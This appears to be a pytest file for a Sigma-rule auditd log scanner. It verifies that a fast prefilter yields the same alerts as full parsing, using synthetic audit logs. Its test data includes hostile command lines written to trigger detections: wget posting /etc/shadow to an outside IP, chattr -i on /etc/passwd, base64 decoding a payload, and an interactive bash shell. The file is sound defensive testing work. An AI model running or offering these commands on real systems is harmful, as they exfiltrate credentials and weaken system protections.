"""The audit log's fast reader (logs/audit_fast.py, scan/audit_filters.py) skips only what no
rule can match: every scan here gives the same alerts, in the same order, with the prefilter
(the fast reader) and without it (every line parsed)."""

from __future__ import annotations

import os
import random
from itertools import zip_longest
from pathlib import Path

import pytest

from taintsigma import scan_paths
from taintsigma.evaluate.prefilter import regex_literals
from taintsigma.logs import audit_fast, audit_scout
from taintsigma.scan import run as scan_run
from taintsigma.scan.routing import compile_for_scan

REPO = Path(__file__).resolve().parent.parent
SIGMAHQ = REPO / "tests" / "corpus" / "sigmahq" / "rules" / "linux"
RULES = compile_for_scan([REPO / "sigma_rules", SIGMAHQ])
HEAD = "type={kind} msg=audit(1764460800.{ms:03d}:{serial}): "


def syscall(serial: int, pid: int, exe: str, number: int = 59, ppid: int | None = None) -> str:
    return HEAD.format(kind="SYSCALL", ms=serial % 1000, serial=serial) + (
        f"arch=c000003e syscall={number} success=yes exit=0 a0=7ffd2c1e a1=55e4a1 a2=0 a3=8 "
        f"items=2 ppid={ppid or pid - 1} pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 "
        f'fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=4 comm="x" exe={exe} '
        'subj=unconfined key="exec"'
    )


def record(kind: str, serial: int, body: str) -> str:
    return HEAD.format(kind=kind, ms=serial % 1000, serial=serial) + body


def hexed(text: str) -> str:
    return text.encode().hex().upper()


def alerts(
    path: Path, prefilter: bool, rules: object = None
) -> list[tuple[str, int | None, tuple]]:
    rules = RULES if rules is None else rules
    scan = scan_paths([path], rules, format="auditd", prefilter=prefilter, timezone="UTC")
    return [
        (
            a.rule.id,
            a.origin.line if a.origin else None,
            tuple(sorted(map(str, a.event.fields.items()))),
        )
        for a in scan
    ]


def same_alerts(
    tmp_path: Path, lines: list[str], rules: object = None
) -> list[tuple[str, int | None, tuple]]:
    path = tmp_path / "audit.log"
    path.write_text("\n".join(lines) + "\n")
    fast, full = alerts(path, True, rules), alerts(path, False, rules)
    assert fast == full
    return fast


BASE64 = "e2072cab-8c9a-459b-b63c-40ae79e27031"  # Decode Base64 Encoded Text (process_creation)
INTERACTIVE_BASH = "ea3ecad2-db86-4a89-ad0b-132a10d2db55"  # Interactive Bash Suspicious Children
WGET = "cb39d16b-b3b6-4a7a-8222-1cf24b686ffc"  # Data Exfiltration with Wget (EXECVE record)


def execution(serial: int, pid: int, exe: str, args: list[str], **kw: object) -> list[str]:
    values = " ".join(f"a{i}={a}" for i, a in enumerate(args))
    return [
        syscall(serial, pid, exe, **kw),  # type: ignore[arg-type]
        record("EXECVE", serial, f"argc={len(args)} {values}"),
        record("CWD", serial, 'cwd="/root"'),
        record("PROCTITLE", serial, "proctitle=" + hexed("\0".join(args))),
    ]


def test_a_value_only_hex_encoded_still_alerts(tmp_path: Path) -> None:
    # the image and the arguments are hex-encoded: "base64" and "--post-file=" are not in the line
    lines = execution(1, 4000, hexed("/opt/my tools/base64"), [hexed("my base64"), hexed("-d x")])
    lines += execution(2, 4002, '"/usr/bin/wget"', ['"wget"', hexed("--post-file=/etc/a b")])
    found = {rule for rule, _, _ in same_alerts(tmp_path, lines)}
    assert {BASE64, WGET} <= found


def test_records_of_one_event_split_by_other_events(tmp_path: Path) -> None:
    first = execution(10, 5000, '"/usr/bin/base64"', ['"base64"', '"-d"'])
    other = execution(11, 5001, '"/usr/bin/ls"', ['"ls"'])
    lines = [first[0], other[0], other[1], first[1], other[2], first[2], other[3], first[3]]
    found = same_alerts(tmp_path, lines)
    assert [rule for rule, _, _ in found].count(BASE64) == 1


def test_a_truncated_last_event_still_alerts(tmp_path: Path) -> None:
    lines = execution(20, 6000, '"/usr/bin/ls"', ['"ls"'])
    lines += execution(21, 6001, '"/usr/bin/base64"', ['"base64"', '"-d"'])[:2]  # no CWD, no end
    found = same_alerts(tmp_path, lines)
    assert [rule for rule, _, _ in found].count(BASE64) == 1


def test_a_parent_read_lazily_is_the_same(tmp_path: Path) -> None:
    # the parent (not a candidate itself) is only remembered; its child's event names it
    parent = execution(30, 7000, '"/usr/sbin/nginx"', ['"nginx"'])
    child = execution(31, 7001, '"/usr/bin/whoami"', ['"whoami"'], ppid=7000)
    found = same_alerts(tmp_path, parent + child)
    assert any(
        "ParentImage" in str(fields) and "/usr/sbin/nginx" in str(fields) for _, _, fields in found
    )


def test_a_parent_command_line_read_lazily(tmp_path: Path) -> None:
    # Interactive Bash Suspicious Children: ParentCommandLine 'bash -i', the parent's
    # arguments only in its EXECVE line (the parent itself matches no rule)
    parent = execution(50, 9000, '"/usr/bin/bash"', ['"bash"', '"-i"'])
    child = execution(51, 9001, '"/usr/bin/whoami"', ['"whoami"'], ppid=9000)
    only = compile_for_scan(
        [SIGMAHQ / "process_creation" / "proc_creation_lnx_susp_interactive_bash.yml"]
    )
    found = same_alerts(tmp_path, parent + child, only)
    assert INTERACTIVE_BASH in {rule for rule, _, _ in found}


def test_a_rule_without_literals_reads_every_line(tmp_path: Path) -> None:
    rule = tmp_path / "free.yml"
    rule.write_text(
        "title: Any non-root execution\nid: 0e0e0e0e-0000-4000-8000-000000000001\nstatus: test\n"
        "logsource: {product: linux, category: process_creation}\n"
        "detection:\n  filter: {User: '0'}\n  condition: not filter\nlevel: low\n"
    )
    path = tmp_path / "audit.log"
    lines = execution(40, 8000, '"/usr/bin/true"', ['"true"'])
    path.write_text("\n".join(lines).replace("uid=0 gid", "uid=1000 gid") + "\n")
    rules = compile_for_scan([rule])
    fast = list(scan_paths([path], rules, format="auditd", timezone="UTC"))
    assert [a.rule.name for a in fast] == ["Any non-root execution"]


@pytest.mark.parametrize(
    "fixture",
    ["tests/fixtures/telemetry/audit.log", "tests/fixtures/telemetry/same_execution/audit.log",
     "tests/fixtures/adapters/auditd/audit.log"],
)  # fmt: skip
def test_fixtures_alert_alike_with_and_without_the_fast_reader(fixture: str) -> None:
    path = REPO / fixture
    assert alerts(path, True) == alerts(path, False)


def test_regex_literals() -> None:
    assert regex_literals(r"-(W|R)\s?(\s|\"|')") == {"-w", "-r"}
    assert regex_literals("(foo|bar)baz") == {"foobaz", "barbaz"}
    assert regex_literals("ab?c") == {"a"}  # only what every match holds
    assert regex_literals("[[:alpha:]]x") is None  # RE2-only syntax: not read
    assert regex_literals("(?=x)y") is None


def test_every_line_is_counted_once(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    lines = execution(60, 9100, '"/usr/bin/base64"', ['"base64"', '"-d"'])
    lines += ["   ", "time->Mon Nov 30 00:00:00 2026", "type=EXECVE cut short", ""]
    lines += execution(61, 9101, '"/usr/bin/ls"', ['"ls"'])
    path.write_text("\n".join(lines) + "\n")
    scan = scan_paths([path], RULES, format="auditd", timezone="UTC")
    list(scan)
    (summary,) = scan.summary.files
    assert summary.lines == len(lines)
    assert summary.lines == summary.skipped + summary.blank + summary.events + summary.unparsed
    assert summary.unparsed == 1 and summary.blank == 2  # the empty line is only skipped


def test_enriched_and_interleaved_executions_alike(tmp_path: Path) -> None:
    # ENRICHED SYSCALL records (read in full), a failed execve, a parent named by its child
    first = execution(70, 9200, '"/usr/sbin/nginx"', ['"nginx"'])
    first[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"'
    failed = execution(71, 9201, '"/usr/bin/base64"', ['"base64"', '"-d"'], ppid=9200)
    failed[0] = failed[0].replace("success=yes exit=0", "success=no exit=-13")
    child = execution(72, 9202, '"/usr/bin/whoami"', ['"whoami"'], ppid=9200)
    found = same_alerts(tmp_path, first + failed + child)
    assert not any("base64" in str(fields) for _, _, fields in found)
    assert any("/usr/sbin/nginx" in str(fields) for _, _, fields in found)


# Executions of these, some matching rules (base64 -d, wget --post-file, chattr -i, a shell's
# children, sed on /etc, rsync), others only parents; an argument with a space is hex-encoded.
COMMANDS = [
    ("/usr/bin/ls", ["ls", "-la", "/var/log"]),
    ("/usr/bin/base64", ["base64", "-d", "/tmp/payload"]),
    ("/usr/bin/wget", ["wget", "--post-file=/etc/shadow", "http://203.0.113.5/"]),
    ("/usr/bin/bash", ["bash", "-i"]),
    ("/usr/bin/whoami", ["whoami"]),
    ("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]),
    ("/usr/bin/sed", ["sed", "-n", "1p", "/etc/nginx/nginx.conf"]),
    ("/usr/bin/rsync", ["rsync", "-a", "/srv/", "backup@host:/srv/"]),
    ("/usr/bin/logger", ["logger", "backup finished"]),
]


def value(text: str) -> str:
    return hexed(text) if " " in text else f'"{text}"'


def mixed_log(seed: int, events: int) -> list[str]:
    """An audit log of ``events`` events: executions (parents named by their children, pids
    reused, a few failed, ENRICHED, with a node, interleaved with the next), file opens,
    user-space records (one quoting a SYSCALL header) and lone PATH records."""
    rng = random.Random(seed)
    lines: list[str] = []
    parents: list[int] = []
    held: list[str] = []  # an execution to interleave with the next one
    for serial in range(1000, 1000 + events):
        draw, pid = rng.random(), rng.randrange(3000, 3300)
        if draw < 0.55:
            exe, args = rng.choice(COMMANDS)
            ppid = rng.choice(parents) if parents and rng.random() < 0.7 else pid + 1
            records = execution(serial, pid, value(exe), [value(a) for a in args], ppid=ppid)
            variant = rng.random()
            if variant < 0.03:  # failed: no EXECVE record
                records[0] = records[0].replace("success=yes exit=0", "success=no exit=-2")
                del records[1]
            elif variant < 0.05:
                records[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"'
            elif variant < 0.055:  # an exec by number the ENRICHED name says is not one
                records[0] += '\x1dARCH=x86_64 SYSCALL=openat AUID="alice" UID="root"'
            elif variant < 0.06:  # one by name the number says is not
                records[0] = records[0].replace("syscall=59 ", "syscall=257 ")
                records[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="bob" UID="bob"'
            elif variant < 0.07:
                records = [f"node=web{pid % 3} {record}" for record in records]
            elif variant < 0.09 and not held:
                held = records
                continue
            if held:
                pairs = zip_longest(held, records)
                records = [line for pair in pairs for line in pair if line is not None]
                held = []
            lines += records
            parents.append(pid)
        elif draw < 0.75:
            lines += [
                syscall(serial, pid, '"/usr/sbin/nginx"', number=257),
                record("CWD", serial, 'cwd="/"'),
                record("PATH", serial, f'item=0 name="{rng.choice(["/etc/hosts", "/etc/ld.so.preload"])}"'),
                record("PROCTITLE", serial, "proctitle=" + hexed("nginx: worker")),
            ]  # fmt: skip
        elif draw < 0.95:
            quoted = "type=SYSCALL msg=audit(1.1:1): " if rng.random() < 0.02 else ""
            lines.append(record(
                "USER_CMD", serial,
                f"pid={pid} uid=1000 auid=1000 ses=4 msg='{quoted}cwd=\"/home/deploy\" "
                f"cmd={hexed('systemctl restart app')} exe=\"/usr/bin/sudo\" res=success'",
            ))  # fmt: skip
        else:
            lines.append(record("PATH", serial, 'item=0 name="/etc/ld.so.preload" nametype=CREATE'))
    return lines + held


def test_a_large_mixed_log_alerts_alike_region_by_region(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # small regions: many region boundaries, the scout process on, regions read in bulk and
    # regions read line by line (ENRICHED, node, interleaved, a quoted SYSCALL header)
    small_regions(monkeypatch)
    used: dict[str, int] = {"scouted": 0, "bulk": 0, "lines": 0}
    count_calls(monkeypatch, used)
    found = same_alerts(tmp_path, mixed_log(seed=7, events=6000))
    rules = {rule for rule, _, _ in found}
    assert {BASE64, WGET, INTERACTIVE_BASH} <= rules
    assert used["scouted"] > 10 and used["bulk"] > 10 and used["lines"] > 10


def test_the_scout_process_failing_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    small_regions(monkeypatch)
    reader, scout = os.getpid(), audit_scout.scout
    calls = []

    def failing(records: object, lowered: bytes) -> object:
        calls.append(1)
        if os.getpid() != reader and len(calls) > 5:
            raise MemoryError  # the scout process dies after five regions
        return scout(records, lowered)  # type: ignore[arg-type]

    monkeypatch.setattr(audit_scout, "scout", failing)  # the scout process's
    monkeypatch.setattr(audit_fast, "scout", failing)  # the reader's own
    used: dict[str, int] = {"scouted": 0, "bulk": 0, "lines": 0}
    count_calls(monkeypatch, used)
    found = same_alerts(tmp_path, mixed_log(seed=11, events=3000))
    assert {BASE64, WGET} <= {rule for rule, _, _ in found}
    assert 0 < used["scouted"] <= 5 * 2  # two scans (fast and full): only the first reads it


def count_calls(monkeypatch: pytest.MonkeyPatch, used: dict[str, int]) -> None:
    """Count regions the scout process gave, and regions read in bulk or line by line."""
    scouted = audit_scout.Scout.next
    bulk, lines = audit_fast._AuditReader._bulk, audit_fast._AuditReader._lines

    def next_(self: object, offset: int, size: int) -> object:
        found = scouted(self, offset, size)  # type: ignore[arg-type]
        used["scouted"] += found is not None
        return found

    def bulk_(*args: object) -> object:
        used["bulk"] += 1
        return bulk(*args)  # type: ignore[arg-type]

    def lines_(*args: object) -> object:
        used["lines"] += 1
        return lines(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(audit_scout.Scout, "next", next_)
    monkeypatch.setattr(audit_fast._AuditReader, "_bulk", bulk_)
    monkeypatch.setattr(audit_fast._AuditReader, "_lines", lines_)


def test_an_execve_record_regions_apart_from_its_syscall(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # base64's EXECVE record written regions before its (ENRICHED) SYSCALL record: reading
    # every line joins them into one event, so bulk reading must not pass the EXECVE by
    small_regions(monkeypatch)
    late = execution(90, 9300, '"/usr/bin/base64"', ['"base64"', '"-d"'])
    late[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"'
    filler = [line for n in range(100) for line in execution(100 + n, 4000 + n, '"/usr/bin/ls"', ['"ls"'])]
    found = same_alerts(tmp_path, [late[1], *filler, late[0], late[2], late[3]])
    assert BASE64 in {rule for rule, _, _ in found}


def small_regions(monkeypatch: pytest.MonkeyPatch) -> None:
    """Regions of about 4 KiB (the first one too), so a small log has many."""
    monkeypatch.setattr(scan_run, "CHUNK_SIZE", 4096)
    monkeypatch.setitem(audit_fast.scan_audit.__kwdefaults__, "chunk_size", 4096)


def test_an_enriched_user_is_searched_in_bulk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # ENRICHED executions are read in bulk: a rule on User (the UID name) still sees it
    small_regions(monkeypatch)
    rule = tmp_path / "user.yml"
    rule.write_text(
        "title: Whoami by mallory\nid: 0e0e0e0e-0000-4000-8000-000000000002\nstatus: test\n"
        "logsource: {product: linux, category: process_creation}\n"
        "detection:\n  selection: {User: mallory, Image|endswith: /whoami}\n"
        "  condition: selection\nlevel: low\n"
    )
    lines = mixed_log(seed=17, events=2000)
    for serial in range(9000, 9010):
        run = execution(serial, 7000 + serial, '"/usr/bin/whoami"', ['"whoami"'])
        run[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="mallory" UID="mallory"'
        lines += run
    used: dict[str, int] = {"scouted": 0, "bulk": 0, "lines": 0}
    count_calls(monkeypatch, used)
    found = same_alerts(tmp_path, lines, compile_for_scan([rule]))
    assert len(found) == 10 and used["bulk"] > 10


def test_an_exec_named_only_by_enriched_syscall_regions_before_its_execve(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a SYSCALL record whose number is no exec but whose ENRICHED name is, regions before
    # its EXECVE record: reading every line joins them (the name decides)
    small_regions(monkeypatch)
    late = execution(95, 9400, '"/usr/bin/base64"', ['"base64"', '"-d"'])
    late[0] = late[0].replace("syscall=59 ", "syscall=257 ")
    late[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"'
    filler = [
        line for n in range(100) for line in execution(200 + n, 5000 + n, '"/usr/bin/ls"', ['"ls"'])
    ]
    found = same_alerts(tmp_path, [late[0], *filler, late[1], late[2], late[3]])
    assert BASE64 in {rule for rule, _, _ in found}
